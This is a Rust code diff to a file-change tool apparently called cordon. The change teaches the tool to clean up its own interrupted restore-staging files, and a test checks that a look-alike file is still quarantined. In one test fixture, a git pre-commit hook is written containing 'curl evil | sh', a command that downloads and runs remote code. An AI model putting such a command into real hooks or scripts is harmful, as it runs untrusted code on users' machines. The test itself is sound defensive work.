@@ -1373,6 +1373,10 @@ impl Snapshot {
             if is_own(path, now) {
                 continue;
             }
+            // Cordon's own write-back cut short by a kill before its rename: not the run's.
+            if staging_left(path, now, kept) {
+                continue;
+            }
             // As it was before the run (content, mode and owner as the run kept them): cordon's
             // own restore of a scan killed before its marker went, or a rewrite to the same
             // bytes. Nothing to move aside; it would only blame the run for the operator's file.
@@ -1939,6 +1943,46 @@ fn real_in(path: &Path, roots: &[PathBuf]) -> PathBuf {
         .filter(|p| roots.iter().any(|r| p.starts_with(r)))
         .zip(path.file_name())
         .map_or_else(|| path.to_path_buf(), |(p, n)| p.join(n))
+}
+
+/// Whether `path` is a staging file that a write-back of cordon's (of a file the run removed,
+/// or of an earlier content) left when its cordon was killed before the rename
+/// (`NAME.cordon-restore-…`, [`Journal::staging_name`]), holding what the run kept of `NAME`
+/// or the start of it; removed here when so. The write-back is done again from `kept`; taken
+/// for the run's change, it was moved aside with a warning blaming the run (and saying its
+/// earlier content was not kept). A file of that name holding anything else is the run's,
+/// and handled as such.
+fn staging_left(path: &Path, now: &Seen, kept: &Kept) -> bool {
+    let (Some(parent), Some(name)) = (path.parent(), path.file_name()) else {
+        return false;
+    };
+    let marker = Journal::STAGING.as_bytes();
+    let Some(at) = name
+        .as_bytes()
+        .windows(marker.len())
+        .position(|w| w == marker)
+    else {
+        return false;
+    };
+    let base = parent.join(std::ffi::OsStr::from_bytes(&name.as_bytes()[..at]));
+    let (Some(was), Some(has)) = (kept.earlier(&base), now.content.as_ref()) else {
+        return false;
+    };
+    if now.id.0 != FILE || !was.content.starts_with(has) {
+        return false;
+    }
+    // The file the snapshot read, still there, removed through its directory (no link on
+    // the way followed).
+    let Ok(dir) = cordon_fs::safe::Dir::open_absolute(parent) else {
+        return false;
+    };
+    let rel = Path::new(name);
+    let same = dir
+        .stat_at(rel)
+        .ok()
+        .flatten()
+        .is_some_and(|st| (st.st_dev, st.st_ino) == (now.id.1, now.id.2));
+    same && dir.remove(rel).is_ok()
 }
 
 /// The scan of a run whose cordon died before its own: everything watched in `roots` that
@@ -4417,7 +4461,28 @@ mod tests {
             std::fs::remove_file(&hook).unwrap();
             std::fs::remove_dir_all(root.join(".claude")).unwrap();
             std::fs::remove_file(root.join(".envrc")).unwrap();
+            // A write-back of cordon's killed before its rename (the start of the content
+            // staged), and a file the run named like one.
+            let hooks = root.join(".git/hooks");
+            let left = hooks.join("pre-commit.cordon-restore-1-2-3");
+            std::fs::write(&left, "#!/bin/sh\n").unwrap();
+            let named = hooks.join("pre-commit.cordon-restore-4-5-6");
+            std::fs::write(&named, "curl evil | sh\n").unwrap();
             let found = scan_changed_since(roots, started, &Kept::read(&kept), None).unwrap();
+            // Removed, not reported, where the run's kept part says it is cordon's.
+            assert!(!left.exists());
+            assert_eq!(found.iter().any(|f| f.path == left), !whole, "{found:#?}");
+            assert!(!named.exists(), "the run's is moved aside");
+            assert!(
+                found
+                    .iter()
+                    .any(|f| f.path == named && matches!(f.handling, Handling::Quarantined(_))),
+                "{found:#?}"
+            );
+            let found: Vec<_> = found
+                .into_iter()
+                .filter(|f| f.path != named && f.path != left)
+                .collect();
             if !whole {
                 assert!(found.is_empty(), "{found:#?}");
                 continue;
